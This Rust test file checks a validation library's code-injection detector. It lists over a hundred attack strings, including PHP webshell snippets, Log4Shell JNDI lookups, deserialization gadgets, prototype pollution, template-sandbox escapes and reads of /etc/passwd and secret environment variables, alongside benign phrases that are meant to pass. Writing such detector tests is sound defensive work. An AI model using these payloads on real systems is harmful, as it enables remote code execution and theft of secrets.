//! Code: what is found, and what not.

use wardkit_validation::{Policy, Sink};

#[test]
fn code_of_interpreters_is_found() {
    for text in ATTACKS {
        assert!(is_attack(text), "{text:?}");
    }
}

#[test]
fn texts_that_are_no_code_pass() {
    for text in PLAIN {
        assert!(!is_attack(text), "{text:?}");
    }
}

fn is_attack(text: &str) -> bool {
    let verdict = Policy::for_sink(Sink::Code).check(text).unwrap();
    verdict
        .findings()
        .iter()
        .any(|finding| PREFIXES.iter().any(|prefix| finding.rule.id.starts_with(prefix)))
}

/// Other detectors look at the same texts; these tests are about one.
const PREFIXES: &[&str] = &["shell.", "code.", "template."];

const ATTACKS: &[&str] = &[
    "<?php echo 1; ?>",
    "<? phpinfo(); ?>",
    "<?= `id` ?>",
    "system('id')",
    "eval($_POST['x'])",
    "assert($_GET[1]);",
    "$_GET['a']($_GET['b'])",
    "('sys'.'tem')('id')",
    "\"system\"('id')",
    "$a='system';$a('id');",
    "${@eval($_POST[1])}",
    "base64_decode('aWQ=')",
    "file_get_contents('/etc/passwd')",
    "include('http://a.b/c')",
    "php://filter/convert.base64-encode/resource=index.php",
    "phar://x.phar",
    "expect://id",
    "data://text/plain;base64,PD9w",
    "zip://a.zip#b",
    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
    "a:2:{i:0;s:1:\"x\";i:1;O:4:\"Test\":0:{}}",
    "allow_url_include=1&auto_prepend_file=php://input",
    "$GLOBALS['x']",
    "array_map('system',['id'])",
    "preg_replace('/.*/e','phpinfo()','')",
    "call_user_func('system','id')",
    "usort($a,'system')",
    "register_shutdown_function('system')",
    "Runtime.getRuntime().exec(\"id\")",
    "new ProcessBuilder(\"id\").start()",
    "${jndi:ldap://x/a}",
    "${${lower:j}ndi:${lower:l}dap://x/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
    "${env:AWS_SECRET}",
    "java.lang.Runtime",
    "java.lang.ProcessBuilder",
    "javax.script.ScriptEngineManager",
    "org.springframework.context.support.ClassPathXmlApplicationContext",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    "aced0005737200",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}",
    "(#_memberAccess['allowStaticMethodAccess']=true)",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "__proto__[admin]=1",
    "{\"__proto__\":{\"x\":1}}",
    "constructor.prototype.x=1",
    "constructor[prototype][x]=1",
    "require('child_process').execSync('id')",
    "process.mainModule.require('fs')",
    "process.env.SECRET",
    "global.process.exit()",
    "_$$ND_FUNC$$_function(){require('x')}()",
    "new Function('return this')()",
    "this.constructor.constructor('return process')()",
    "while(1){}",
    "__import__('os').system('id')",
    "os.system('id')",
    "subprocess.Popen(['id'],shell=True)",
    "exec(\"import os\")",
    "eval(compile('1','x','eval'))",
    "open('/etc/passwd').read()",
    "cos\nsystem\n(S'id'\ntR.",
    "!!python/object/apply:os.system ['id']",
    "Process.spawn('id')",
    "Kernel.exec('id')",
    "IO.popen('id').read",
    "%x(id)",
    "`id`",
    "Open3.capture2('id')",
    "--- !ruby/object:Gem::Installer",
    "@{[system \"id\"]}",
    "open(F,\"|id\")",
    "use IO::Socket;",
    "AAEAAAD/////AQAAAA",
    "System.Diagnostics.Process.Start(\"cmd\")",
    "ObjectDataProvider",
    "os.execute('id')",
    "io.popen('id')",
    "phpinfo()",
    "php_uname()",
    "getenv('PATH')",
    "chr(115).chr(121)",
    "var_dump($_SERVER)",
    "print_r(scandir('.'))",
    "filename=\"shell.php5\"",
    "shell.phtml",
    "<jsp:include page=\"x\"/>",
    "<%@ page import=\"java.util.*\" %>",
    "<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>",
    "eval(String.fromCharCode(97))",
    "setTimeout(\"alert(1)\",1)",
    ";phpinfo();",
    "1;system(id)",
    "$x=`id`;",
    "echo shell_exec('id');",
    "die(@md5(1))",
    "print(md5(1337))",
    "sleep(5)",
    "console.log(1)",
    "fs.readFileSync('/etc/passwd')",
    "import os; os.popen('id')",
    "getattr(__builtins__,'eval')",
    "[].__class__.__base__",
    "().__class__.__bases__[0].__subclasses__()",
    "lambda: __import__('os')",
];

const PLAIN: &[&str] = &[
    "the system (the old one) is down",
    "evaluate the result",
    "the max (at most) and the min",
    "I really (really) like it",
    "constructor and prototype are words",
    "import the file",
    "os x and process of life",
    "for all of us",
    "while we wait",
    "a: 1, b: 2",
    "print 5 pages",
    "at java.util.List.of(List.java:80)",
    "function of time",
    "C:\\work",
    "O: yes",
    "sleep well",
];
